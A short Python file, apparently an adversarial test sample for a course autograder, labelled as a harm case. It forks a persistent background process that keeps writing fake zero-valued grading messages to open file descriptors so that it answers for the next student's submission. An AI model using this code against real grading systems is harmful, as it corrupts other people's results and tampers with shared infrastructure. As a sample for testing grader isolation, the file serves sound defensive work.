# Harm: a process that stays and answers for the next student
# %%
import os, time

if os.fork():
    time.sleep(0.2)
else:
    from cs826tl.grading.exchange import pack

    while True:
        time.sleep(0.01)
        for descriptor in range(3, 20):
            try:
                os.write(descriptor, pack({"value": 0.0}))
            except OSError:
                pass


def scale(x, factor):
    return 0.0
